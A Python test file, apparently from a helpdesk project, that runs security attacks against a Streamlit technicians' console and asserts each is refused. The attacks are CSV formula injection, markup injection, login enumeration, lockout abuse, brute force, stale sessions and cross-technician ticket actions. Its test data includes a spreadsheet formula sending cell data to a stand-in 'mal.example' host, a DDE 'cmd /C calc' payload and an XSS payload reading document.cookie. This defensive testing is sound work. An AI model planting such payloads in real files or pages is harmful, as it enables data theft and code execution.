"""Attacks on the technicians' console (issue 12, item 6), each against the real console script
(Streamlit's AppTest runs console/app.py in this process) or the domain services it calls, each
asserting the refusal and that nothing changed in the database:

- CSV injection through the report export and the rejected-rows report of the customer import;
- Markdown/HTML injection through customer text (names, subjects, transcripts, documentation gaps);
- account discovery through the login's message or time;
- a stranger locking a manager out by failing on purpose; brute force;
- a session that outlives a password reset, a deactivation or a demotion;
- a technician replying to or closing a ticket that another technician holds.
"""
from __future__ import annotations

import csv
import io
import json
import statistics
import time
from datetime import date, datetime, timezone
from typing import Any, Callable

import pytest
import sqlalchemy as sa
from sqlalchemy import select

from console import auth as console_auth
from helpdesk import errors
from helpdesk.db import get_engine, session_scope
from helpdesk.models import Customer, KnowledgeQuery, Technician, Ticket, TicketEvent
from helpdesk.services import customer_import, customers, handoff, technicians, tickets
from helpdesk.services.rasa_client import RasaClient
from tests.console import dataset
from tests.console.apphelpers import (
    EVIL, FakeClock, assert_no_markup_from, assert_plain, goto, login, menu, messages, new_app, texts,
)
from tests.console.conftest import RasaRecorder

FORMULAS = ('=HYPERLINK("http://mal.example/?d="&A1,"Ver fatura")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+5511999990000", "-1+1", "\t=1+1", "\r=1+1")


@pytest.fixture()
def client_ip(monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
    """Choose the address the console sees for the next login (as nginx's X-Real-IP would say)."""
    current = {"ip": "local"}
    monkeypatch.setattr(console_auth, "client_address", lambda: current["ip"])
    return lambda ip: current.update(ip=ip)


def _db_state() -> tuple[Any, ...]:
    """Everything an attack on the console could change."""
    with session_scope() as s:
        techs = [(t.id, t.role, t.active, t.password_hash, t.session_generation, t.failed_logins, t.locked_until)
                 for t in s.scalars(select(Technician).order_by(Technician.id))]
        tix = [(t.id, t.status, t.technician_id, t.level, t.solution, t.first_response_at, t.row_version)
               for t in s.scalars(select(Ticket).order_by(Ticket.id))]
        events = s.scalar(select(sa.func.count()).select_from(TicketEvent))
        custs = s.scalar(select(sa.func.count()).select_from(Customer))
    return techs, tix, events, custs


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=";"))


# ---- CSV injection ---------------------------------------------------------------------------------

def test_formulas_in_customer_names_and_questions_leave_the_report_export_inert(ids: dataset.Ids) -> None:
    from helpdesk.services import reports as relatorios
    from helpdesk.services import metrics

    with session_scope() as s:
        evil = customers.create(s, responsible_name="X", legal_name=FORMULAS[0], cnpj="04.252.011/0001-10",
                                tax_regime="simples_nacional")
        for n in range(4):
            t = tickets.open_ticket(s, customer_id=evil.id, channel="web", type="erro", module=None,
                                    description=f"d{n}", conversation_id=None)
            t.opened_at = datetime(2026, 3, 4, 10 + n)
        for n, question in enumerate(FORMULAS[1:]):
            s.add(KnowledgeQuery(question=question, answered=False, grounded=False, at=datetime(2026, 3, 4, 12, n)))
        technicians.create(s, name="=cmd|' /C calc'!A0", email="evil@teste.dev", password=dataset.PASSWORD)
    with session_scope() as s:
        report = relatorios.build(s, metrics.Period.from_dates(date(2026, 3, 1), date(2026, 3, 10)))
    cells = _cells(relatorios.to_csv(report))
    flat = [c for row in cells for c in row]
    assert "'" + FORMULAS[0] in flat and f"'{FORMULAS[0]} (4)" in flat
    for question in FORMULAS[1:]:
        assert "'" + question in flat
    assert not [c for c in flat if c.startswith(customer_import.FORMULA_PREFIXES)]


def test_formulas_in_an_imported_file_leave_the_rejected_rows_report_inert(ids: dataset.Ids) -> None:
    before = _db_state()
    header = "responsavel;razao_social;cnpj;regime_tributario\n"
    rows = "".join(f'"{f.replace(chr(34), chr(34) * 2)}";"{f.replace(chr(34), chr(34) * 2)}";123;simples\n'
                   for f in FORMULAS)
    at = goto(login("tiago@teste.dev", dataset.PASSWORD), "clientes")
    at.text_area(key="i_text").input(header + rows)
    at.button(key="i_run").click().run()
    assert messages(at, "success") == [f"0 cliente(s) importado(s); {len(FORMULAS)} linha(s) rejeitada(s)."]
    report = at.session_state["import_report"]  # what "Baixar linhas rejeitadas (CSV)" serves
    cells = _cells(report.rejected_csv())
    assert [row[1] for row in cells[1:]] == ["'" + f.strip() for f in FORMULAS]  # names are stripped on import
    assert not [c for row in cells for c in row if c.startswith(customer_import.FORMULA_PREFIXES)]
    assert _db_state() == before


# ---- Markdown / HTML injection ---------------------------------------------------------------------

def test_markup_written_by_a_customer_shows_as_typed(ids: dataset.Ids) -> None:
    name = "Loja <img src=x onerror=alert(document.cookie)> [Pague aqui](http://mal.example/pix)"
    with session_scope() as s:
        c = customers.create(s, responsible_name="![](http://rastreador.example/abriu.png)", legal_name=name,
                             cnpj="04.252.011/0001-10", tax_regime="simples_nacional")
        t = tickets.open_ticket(s, customer_id=c.id, channel="web", type="erro", module=None, subject=EVIL,
                                description=EVIL, conversation_id="web-sess-attack")
        tid = t.id
    events = sa.Table("events", sa.MetaData(), sa.Column("id", sa.Integer, primary_key=True),
                      sa.Column("sender_id", sa.String(255)), sa.Column("type_name", sa.String(255)),
                      sa.Column("timestamp", sa.Float), sa.Column("intent_name", sa.String(255)),
                      sa.Column("action_name", sa.String(255)), sa.Column("data", sa.Text))
    events.metadata.create_all(get_engine())
    with session_scope() as s:
        s.execute(events.insert().values(sender_id="web-sess-attack", type_name="user",
                                         timestamp=datetime(2026, 3, 2, 9, 58, tzinfo=timezone.utc).timestamp(),
                                         data=json.dumps({"event": "user", "text": EVIL})))
    before = _db_state()
    at = goto(login("tiago@teste.dev", dataset.PASSWORD), "chamado", id=tid)
    assert not at.exception
    assert_plain(at.subheader[0].value, f"#{tid} · {EVIL}")
    assert name in texts(at) and "![](http://rastreador.example/abriu.png)" in texts(at) and EVIL in texts(at)
    assert_no_markup_from(at, "mal.example", "rastreador", "onerror", "negrito")
    at = goto(at, "fila")
    at.selectbox(key="q_status").set_value("__all__").run()
    assert EVIL[:60] in " ".join(at.selectbox(key="q_ticket").options)  # plain option labels
    assert_no_markup_from(at, "mal.example", "rastreador", "onerror", "negrito")
    assert _db_state() == before


# ---- login -------------------------------------------------------------------------------------------

def test_login_tells_nothing_about_which_accounts_exist(ids: dataset.Ids, client_ip: Callable[[str], None]) -> None:
    before = _db_state()
    seen = {}
    for n, email in enumerate(("tiago@teste.dev", "ninguem@teste.dev")):
        client_ip(f"198.51.100.{n}")
        at = login(email, "senha-errada")
        seen[email] = messages(at, "error")
    assert seen["tiago@teste.dev"] == seen["ninguem@teste.dev"] == ["E-mail ou senha incorretos."]

    def timed(email: str, n: int) -> float:
        start = time.perf_counter()
        with pytest.raises(errors.AuthenticationFailed), session_scope() as s:
            technicians.authenticate(s, email, "senha-errada", client=f"203.0.113.{n}")
        return time.perf_counter() - start

    timed("ninguem@teste.dev", 99)  # warm-up
    known = statistics.median(timed("tiago@teste.dev", n) for n in range(7))
    unknown = statistics.median(timed("ninguem@teste.dev", 10 + n) for n in range(7))
    assert 0.5 < unknown / known < 2.0, (known, unknown)  # both run one argon2 verification
    assert _db_state() == before


def test_a_stranger_failing_on_purpose_cannot_lock_a_manager_out(
        ids: dataset.Ids, clock: FakeClock, client_ip: Callable[[str], None]) -> None:
    client_ip("203.0.113.10")
    assert login("marta@teste.dev", dataset.PASSWORD).header  # the manager's usual machine
    client_ip("198.51.100.66")
    stranger = new_app().run()
    for _ in range(25):
        stranger = login("marta@teste.dev", "chute", stranger)
        clock.advance(0.2)
    assert messages(stranger, "error")[0].startswith("Muitas tentativas de login.")
    before = _db_state()
    client_ip("203.0.113.10")
    at = login("marta@teste.dev", dataset.PASSWORD)
    assert not messages(at, "error") and [h.value for h in at.header] == ["Fila de chamados"]
    client_ip("192.0.2.44")  # the manager on a machine never used before
    at = login("marta@teste.dev", dataset.PASSWORD)
    assert not messages(at, "error") and at.header
    assert _db_state() == before  # and no lock was written anywhere


def test_guessing_a_password_is_slowed_down_not_locked(ids: dataset.Ids, clock: FakeClock,
                                                         client_ip: Callable[[str], None]) -> None:
    client_ip("198.51.100.7")
    at = new_app().run()
    for _ in range(5):
        at = login("tiago@teste.dev", "chute", at)
    before = _db_state()
    at = login("tiago@teste.dev", dataset.PASSWORD, at)  # even the right password waits its turn
    assert messages(at, "error") == ["Muitas tentativas de login. Aguarde 1 segundo e tente novamente."]
    assert "auth" not in at.session_state
    for _ in range(10):  # refused attempts do not check passwords and do not lengthen the wait
        at = login("tiago@teste.dev", "chute", at)
    assert messages(at, "error") == ["Muitas tentativas de login. Aguarde 1 segundo e tente novamente."]
    assert _db_state() == before
    clock.advance(1)
    at = login("tiago@teste.dev", dataset.PASSWORD, at)
    assert at.header and "auth" in at.session_state


# ---- sessions ----------------------------------------------------------------------------------------

def test_a_stolen_session_dies_with_a_password_reset(ids: dataset.Ids) -> None:
    stolen = login("tiago@teste.dev", dataset.PASSWORD)
    with session_scope() as s:
        technicians.set_password(s, ids.tiago, "senha-nova-tiago")
    before = _db_state()
    stolen.selectbox(key="q_ticket").set_value(ids.tickets["t7"]).run()
    assert "auth" not in stolen.session_state and not stolen.header
    assert messages(stolen, "warning") == [technicians.SESSION_ENDED]
    assert _db_state() == before


def test_a_deactivated_technician_cannot_act_from_an_open_session(ids: dataset.Ids) -> None:
    at = login("tiago@teste.dev", dataset.PASSWORD)
    at.selectbox(key="q_ticket").set_value(ids.tickets["t7"]).run()
    with session_scope() as s:
        technicians.set_active(s, ids.tiago, False, by=ids.manager)
    before = _db_state()
    at.button(key="q_assume").click().run()
    assert "auth" not in at.session_state and messages(at, "warning") == [technicians.ACCOUNT_INACTIVE]
    assert _db_state() == before


def test_a_demoted_manager_cannot_use_manager_pages_or_actions(ids: dataset.Ids) -> None:
    at = goto(login("marta@teste.dev", dataset.PASSWORD), "usuarios")
    at.selectbox(key="p_user").set_value(ids.tiago)
    at.text_input(key="p_password").input("senha-da-marta-1")
    with session_scope() as s:
        s.get(Technician, ids.manager).role = "technician"
    before = _db_state()
    at.button(key="p_save").click().run()  # the form was on screen before the demotion
    assert messages(at, "error") == ["Você não tem permissão para acessar esta área.",
                                     "Você não tem permissão para acessar esta área. Esta página é só para gestores."]
    assert menu(at) == ["Fila", "Chamado", "Clientes", "Problemas do WhatsApp"]
    assert _db_state() == before
    assert not messages(login("tiago@teste.dev", dataset.PASSWORD, new_app().run()), "error")


# ---- tickets held by another technician ---------------------------------------------------------------

def test_a_technician_cannot_reply_to_or_close_a_colleagues_ticket(ids: dataset.Ids, rasa: RasaRecorder) -> None:
    tid = ids.tickets["t5"]  # Bruno holds it
    before = _db_state()
    at = goto(login("tiago@teste.dev", dataset.PASSWORD), "chamado", id=tid)
    at.text_area(key="reply_text").input("Oi, sou eu agora")
    at.button(key="reply_send").click().run()
    assert messages(at, "error")[0].startswith(f"O chamado #{tid} está com Bruno Técnico. Para responder")
    at.text_area(key="sol_text").input("Resolvido (por outro)")
    at.button(key="sol_send").click().run()
    assert messages(at, "error")[0].startswith(f"O chamado #{tid} está com Bruno Técnico. Para concluir")
    at.selectbox(key="esc_tech").set_value(ids.tiago)
    at.text_area(key="esc_reason").input("é meu agora")
    at.button(key="esc_send").click().run()
    assert messages(at, "error")[0].startswith(f"O chamado #{tid} está com Bruno Técnico. Para escalar")
    client = RasaClient.from_settings()
    for attempt in (lambda s: handoff.resolve(s, tid, technician_id=ids.tiago, solution="x", client=client),
                    lambda s: tickets.add_message(s, tid, author="Tiago", text="x", direction="out",
                                                  technician_id=ids.tiago)):
        with session_scope() as s, pytest.raises(errors.AlreadyAssigned):
            attempt(s)
    assert rasa.calls == [] and _db_state() == before
